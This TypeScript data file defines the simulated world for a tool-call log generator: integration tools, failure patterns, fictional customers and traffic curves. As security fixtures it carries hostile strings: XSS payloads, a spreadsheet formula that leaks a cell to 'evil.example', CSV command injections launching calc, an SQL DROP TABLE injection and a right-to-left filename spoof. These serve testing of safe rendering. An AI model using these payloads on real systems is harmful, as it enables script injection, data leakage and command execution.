/**
 * What the simulated world is made of: toolkits and their tools, the failure patterns real tool
 * calls hit, and the vendor's customers. Pure data; the generator turns it into logs.
 */
import type { FailureKind } from '../core/failure-hints.ts';

/** Shape of a tool's arguments and result; selects a payload generator in payloads.ts. */
export type PayloadKind =
  | 'email_send'
  | 'email_list'
  | 'message_send'
  | 'message_list'
  | 'issue_create'
  | 'issue_list'
  | 'commit_list'
  | 'page_create'
  | 'search'
  | 'event_create'
  | 'event_list'
  | 'file_find'
  | 'file_download'
  | 'contact_create'
  | 'contact_search'
  | 'web_search'
  | 'meta_execute'
  | 'tool_search';

export interface ToolSpec {
  slug: string;
  toolkit: string;
  /** Relative popularity within the toolkit. */
  weight: number;
  /** Median duration in ms; durations are lognormal around it. */
  medianMs: number;
  kind: PayloadKind;
  /** Instant-tools charge per call in micro-USD (exact; summed into `instant_charge`). */
  chargeMicros?: number;
  /** Share of calls whose response is large (≥ 200 kB). */
  largeShare?: number;
}

export const META_TOOL = 'COMPOSIO_MULTI_EXECUTE_TOOL';

/** A custom toolkit whose vendor-defined slugs carry hostile strings (rendering must be text-only). */
export const HOSTILE_TOOLKIT = 'custom';

export const TOOLS: readonly ToolSpec[] = [
  { slug: 'GMAIL_SEND_EMAIL', toolkit: 'gmail', weight: 6, medianMs: 620, kind: 'email_send' },
  { slug: 'GMAIL_FETCH_EMAILS', toolkit: 'gmail', weight: 8, medianMs: 900, kind: 'email_list', largeShare: 0.01 },
  { slug: 'GMAIL_CREATE_EMAIL_DRAFT', toolkit: 'gmail', weight: 2, medianMs: 480, kind: 'email_send' },
  { slug: 'GMAIL_REPLY_TO_THREAD', toolkit: 'gmail', weight: 2, medianMs: 560, kind: 'email_send' },
  { slug: 'SLACK_SEND_MESSAGE', toolkit: 'slack', weight: 7, medianMs: 310, kind: 'message_send' },
  { slug: 'SLACK_FETCH_CONVERSATION_HISTORY', toolkit: 'slack', weight: 3, medianMs: 420, kind: 'message_list' },
  { slug: 'SLACK_LIST_ALL_CHANNELS', toolkit: 'slack', weight: 2, medianMs: 350, kind: 'search' },
  { slug: 'GITHUB_CREATE_AN_ISSUE', toolkit: 'github', weight: 3, medianMs: 700, kind: 'issue_create' },
  { slug: 'GITHUB_LIST_REPOSITORY_ISSUES', toolkit: 'github', weight: 3, medianMs: 650, kind: 'issue_list' },
  { slug: 'GITHUB_GET_A_PULL_REQUEST', toolkit: 'github', weight: 2, medianMs: 520, kind: 'issue_list' },
  { slug: 'GITHUB_LIST_COMMITS', toolkit: 'github', weight: 2, medianMs: 800, kind: 'commit_list', largeShare: 0.02 },
  { slug: 'NOTION_CREATE_NOTION_PAGE', toolkit: 'notion', weight: 2, medianMs: 950, kind: 'page_create' },
  { slug: 'NOTION_SEARCH_NOTION_PAGE', toolkit: 'notion', weight: 3, medianMs: 780, kind: 'search' },
  { slug: 'NOTION_FETCH_DATA', toolkit: 'notion', weight: 2, medianMs: 860, kind: 'search' },
  { slug: 'LINEAR_CREATE_LINEAR_ISSUE', toolkit: 'linear', weight: 2, medianMs: 540, kind: 'issue_create' },
  { slug: 'LINEAR_LIST_LINEAR_ISSUES', toolkit: 'linear', weight: 2, medianMs: 480, kind: 'issue_list' },
  { slug: 'GOOGLECALENDAR_CREATE_EVENT', toolkit: 'googlecalendar', weight: 3, medianMs: 610, kind: 'event_create' },
  { slug: 'GOOGLECALENDAR_FIND_FREE_SLOTS', toolkit: 'googlecalendar', weight: 2, medianMs: 530, kind: 'event_list' },
  { slug: 'GOOGLECALENDAR_EVENTS_LIST', toolkit: 'googlecalendar', weight: 3, medianMs: 500, kind: 'event_list' },
  { slug: 'GOOGLEDRIVE_FIND_FILE', toolkit: 'googledrive', weight: 2, medianMs: 700, kind: 'file_find' },
  { slug: 'GOOGLEDRIVE_DOWNLOAD_FILE', toolkit: 'googledrive', weight: 1, medianMs: 1900, kind: 'file_download', largeShare: 0.05 },
  { slug: 'HUBSPOT_CREATE_CONTACT', toolkit: 'hubspot', weight: 1, medianMs: 660, kind: 'contact_create' },
  { slug: 'HUBSPOT_SEARCH_CONTACTS', toolkit: 'hubspot', weight: 1, medianMs: 720, kind: 'contact_search' },
  { slug: 'COMPOSIO_SEARCH_WEB', toolkit: 'composio_search', weight: 2, medianMs: 1400, kind: 'web_search', chargeMicros: 2500 },
  { slug: 'COMPOSIO_SEARCH_TOOLS', toolkit: 'composio', weight: 2, medianMs: 240, kind: 'tool_search' },
  { slug: META_TOOL, toolkit: 'composio', weight: 0, medianMs: 1500, kind: 'meta_execute' },
  { slug: 'CUSTOM_<IMG SRC=X ONERROR=ALERT(1)>', toolkit: HOSTILE_TOOLKIT, weight: 1, medianMs: 200, kind: 'search' },
  { slug: '=HYPERLINK("http://evil.example","CLICK")', toolkit: HOSTILE_TOOLKIT, weight: 1, medianMs: 200, kind: 'search' },
];

/** Toolkit popularity (tools inside a toolkit follow their own weights). */
export const TOOLKIT_WEIGHTS: Readonly<Record<string, number>> = {
  gmail: 24,
  slack: 18,
  github: 14,
  notion: 9,
  linear: 7,
  googlecalendar: 10,
  googledrive: 5,
  hubspot: 4,
  composio_search: 3,
  composio: 3,
};

/** The failure patterns are core's (`core/failure-hints.ts`): one definition for hints, insights and the data set. */
export { FAILURE_KINDS, type FailureKind } from '../core/failure-hints.ts';

/** How often each failure pattern appears among failures (a typical mix). */
export const FAILURE_WEIGHTS: Readonly<Record<FailureKind, number>> = {
  token_expired: 12,
  missing_scopes: 10,
  invalid_input: 25,
  tool_not_found: 6,
  no_connected_account: 8,
  rate_limited: 12,
  upstream_error: 15,
  timeout: 10,
};

export interface ProjectSpec {
  id: string;
  name: string;
  /** Payload storage off ("Don't store data"): logs keep the audit row, `data` is empty (docs/composio-v3.1.md#retention). */
  storesPayloads: boolean;
}

export interface CustomerSpec {
  name: string;
  project: string;
  userIds: readonly string[];
  /** Share of the project's traffic (relative). */
  weight: number;
  /** Local zone of the customer's working day, which drives the daily rhythm. */
  timeZone: string;
  /** Preferred toolkits get this multiplier on their weight. */
  favourites: readonly string[];
  /** Baseline failure probability of a call. */
  failureRate: number;
  /** Days before "now" the customer started (traffic ramps from zero). */
  onboardedDaysAgo?: number;
  /** An expired-token episode: gmail calls fail with 401 for this many days, ending this many days ago. */
  tokenExpiredEpisode?: { endsDaysAgo: number; days: number; toolkit: string };
  /** Share of calls with hostile strings in their arguments and messages. */
  hostileShare?: number;
}

export const PROJECTS: readonly ProjectSpec[] = [
  { id: 'proj_acme_prod', name: 'Acme Assistant (production)', storesPayloads: true },
  { id: 'proj_acme_staging', name: 'Acme Assistant (staging)', storesPayloads: false },
];

export const CUSTOMERS: readonly CustomerSpec[] = [
  {
    name: 'Globex Corporation',
    project: 'proj_acme_prod',
    userIds: ['globex-ops', 'globex-sales', 'globex-support'],
    weight: 30,
    timeZone: 'America/New_York',
    favourites: ['gmail', 'hubspot', 'googlecalendar'],
    failureRate: 0.065,
  },
  {
    name: 'Initech',
    project: 'proj_acme_prod',
    userIds: ['user_2f9a61c4'],
    weight: 18,
    timeZone: 'Europe/Berlin',
    favourites: ['github', 'linear', 'slack'],
    failureRate: 0.075,
  },
  {
    name: 'Hooli',
    project: 'proj_acme_prod',
    userIds: ['hooli_prod'],
    weight: 15,
    timeZone: 'Asia/Kolkata',
    favourites: ['slack', 'notion', 'googledrive'],
    failureRate: 0.07,
  },
  {
    name: 'Umbrella Health',
    project: 'proj_acme_prod',
    userIds: ['ops@umbrella-health.example'],
    weight: 12,
    timeZone: 'America/Los_Angeles',
    favourites: ['gmail', 'googlecalendar'],
    failureRate: 0.085,
  },
  {
    name: 'Wayne Foundation',
    project: 'proj_acme_prod',
    userIds: ['wayne-foundation'],
    weight: 8,
    timeZone: 'Europe/London',
    favourites: ['gmail', 'notion'],
    failureRate: 0.065,
    tokenExpiredEpisode: { endsDaysAgo: 9, days: 2, toolkit: 'gmail' },
  },
  {
    name: 'Stark Logistics',
    project: 'proj_acme_prod',
    userIds: ['stark-logistics'],
    weight: 9,
    timeZone: 'Australia/Sydney',
    favourites: ['googlecalendar', 'slack', 'composio_search'],
    failureRate: 0.08,
    onboardedDaysAgo: 25,
  },
  {
    name: 'Tyrell QA (hostile strings)',
    project: 'proj_acme_prod',
    userIds: ['tyrell"><img src=x onerror=alert(1)>'],
    weight: 2,
    timeZone: 'UTC',
    favourites: [HOSTILE_TOOLKIT, 'gmail'],
    failureRate: 0.095,
    hostileShare: 0.6,
  },
  {
    name: 'Acme internal QA',
    project: 'proj_acme_staging',
    userIds: ['qa-bot-1', 'qa-bot-2'],
    weight: 4,
    timeZone: 'UTC',
    favourites: ['slack', 'github'],
    failureRate: 0.105,
  },
  {
    name: 'Globex Corporation (sandbox)',
    project: 'proj_acme_staging',
    userIds: ['globex-ops'],
    weight: 2,
    timeZone: 'America/New_York',
    favourites: ['gmail'],
    failureRate: 0.095,
  },
];

/** Hostile strings a log may carry in messages, slugs and payloads. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.domain)</script>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "'; DROP TABLE logs; --",
  '<svg/onload=alert(1)>',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\u202Egnp.exe',
];

/** Local hour-of-day and weekday shape of an agent workload (agents run overnight jobs too). */
export const HOURLY = [
  0.12, 0.1, 0.08, 0.08, 0.1, 0.15, 0.3, 0.55, 0.85, 1, 1.05, 1, 0.85, 0.95, 1, 0.98, 0.9, 0.75, 0.55, 0.42, 0.35, 0.28, 0.2, 0.15,
];
export const WEEKDAY = [0.3, 1, 1.08, 1.05, 1, 0.88, 0.35];

/** A tool's share of a customer's calls: its toolkit's weight (favourites ×3, at least 20) split over the toolkit's tools. */
export function toolWeight(customer: CustomerSpec, slug: string): number {
  const tool = TOOLS.find((t) => t.slug === slug)!;
  if (tool.weight === 0) return 0;
  const favourite = customer.favourites.includes(tool.toolkit);
  const base = TOOLKIT_WEIGHTS[tool.toolkit] ?? 0;
  const toolkitWeight = favourite ? Math.max(base * 3, 20) : base;
  const inToolkit = TOOLS.filter((t) => t.toolkit === tool.toolkit).reduce((sum, t) => sum + t.weight, 0);
  return (toolkitWeight * tool.weight) / inToolkit;
}

/** Share of calls made through tool-router sessions (the rest are direct SDK executions). */
export const SESSION_SHARE = 0.7;
/** Share of session calls that go through the multi-execute meta tool. */
export const META_SHARE = 0.1;
export const SANDBOX_SHARE = 0.3;
